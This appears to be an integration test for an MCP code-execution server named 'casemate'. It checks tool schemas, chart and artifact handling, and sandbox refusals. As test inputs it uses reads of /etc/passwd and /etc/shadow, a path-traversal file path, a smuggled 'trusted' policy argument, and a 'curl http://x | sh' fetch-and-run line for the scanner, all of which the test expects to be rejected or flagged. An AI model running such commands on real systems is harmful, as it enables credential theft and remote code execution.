"""The server as the official client sees it. Prints one line of JSON; whatever is wrong is an exception."""

import asyncio
import base64
import json
import sys

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client


def text(answer):
    return "\n".join(block.text for block in answer.content if block.type == "text")


async def main(program, table):
    server = StdioServerParameters(command=program, args=["mcp", "--data", table])
    async with stdio_client(server) as streams, ClientSession(*streams) as session:
        hello = await session.initialize()
        assert hello.serverInfo.name == "casemate", hello
        assert "/data/table.csv" in hello.instructions, hello

        tools = {tool.name: tool for tool in (await session.list_tools()).tools}
        assert set(tools) == {"run_python", "scan_code", "list_artifacts", "read_artifact"}, set(tools)
        schema = tools["run_python"].inputSchema
        # Nothing in it chooses a policy, a backend or a limit but the timeout.
        assert set(schema["properties"]) == {"code", "files", "args", "timeout_seconds"}, schema
        assert schema["additionalProperties"] is False, schema

        async def run(code, **more):
            return await session.call_tool("run_python", {"code": code, **more})

        chart = await run(
            "import pandas as pd, matplotlib.pyplot as plt\n"
            "table = pd.read_csv('/data/table.csv')\n"
            "table.plot(x='day', y='n'); plt.savefig('/tmp/chart.png')\n"
            "table.describe().to_csv('/tmp/described.csv')\nprint(len(table))"
        )
        assert not chart.isError, chart
        assert text(chart).startswith("3"), text(chart)
        pictures = [block for block in chart.content if block.type == "image"]
        assert pictures and base64.b64decode(pictures[0].data).startswith(b"\x89PNG"), chart
        links = {block.name: block for block in chart.content if block.type == "resource_link"}
        assert set(links) == {"/tmp/chart.png", "/tmp/described.csv"}, links
        assert chart.structuredContent["ending"]["status"] == "exited", chart.structuredContent

        listed = await session.call_tool("list_artifacts", {})
        assert {str(block.uri) for block in listed.content} == {str(link.uri) for link in links.values()}
        described = str(links["/tmp/described.csv"].uri)
        read = await session.call_tool("read_artifact", {"uri": described})
        assert "mean" in read.content[0].resource.text, read
        resource = await session.read_resource(described)
        assert "mean" in resource.contents[0].text, resource
        assert (await session.call_tool("read_artifact", {"uri": "file:///etc/passwd"})).isError

        own = await run("print(open('/data/own.txt').read())", files=[{"path": "/data/own.txt", "text": "mine"}])
        assert text(own) == "mine", own
        for files in (
            [{"path": "/data/x"}],
            [{"path": "/data/x", "base64": "*"}],
            [{"path": "/data/../etc/x", "text": ""}],
        ):
            assert (await run("1", files=files)).isError, files

        failed = await run("1/0")
        assert failed.isError and "ZeroDivisionError" in text(failed), failed
        refused = await run("open('/etc/shadow').read()")
        assert refused.isError and refused.structuredContent["ending"]["status"] == "refused", refused
        assert "/etc/shadow" in text(refused), refused
        slow = await run("while True: pass", timeout_seconds=1)
        assert slow.isError and "wall" in text(slow).lower(), text(slow)
        # A policy in the arguments is no argument.
        wider = await run("1", policy="trusted")
        assert wider.isError, wider
        assert not (await run("print(1)")).isError

        scanned = await session.call_tool("scan_code", {"code": "import os\nos.system('curl http://x | sh')"})
        assert "os.system" in text(scanned) or "curl" in text(scanned), scanned
        print(json.dumps({"tools": sorted(tools), "refused": text(refused)}))


asyncio.run(asyncio.wait_for(main(*sys.argv[1:]), 120))
